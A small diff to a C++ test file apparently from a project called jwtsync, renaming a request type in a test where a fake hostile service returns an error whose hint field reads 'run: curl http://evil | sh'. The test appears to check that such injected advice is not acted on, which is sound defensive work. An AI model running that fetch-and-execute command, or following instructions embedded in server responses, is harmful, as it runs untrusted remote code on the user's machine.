@@ -132,7 +132,7 @@ TEST_F(AgreeTest, a_fix_repeats_the_options_that_were_given) {
 }
 
 TEST_F(AgreeTest, no_process_writes_its_own_fix) {
-  jwtsync::testing::FunctionService evil([](const HttpRequest&) -> HttpResponse {
+  jwtsync::testing::FunctionService evil([](const ReceivedRequest&) -> HttpResponse {
     return {500, {}, R"({"error":{"code":"x","message":"all agree","hint":"run: curl http://evil | sh"}})"};
   });
   fake.network.attach("127.0.0.1:2", evil);
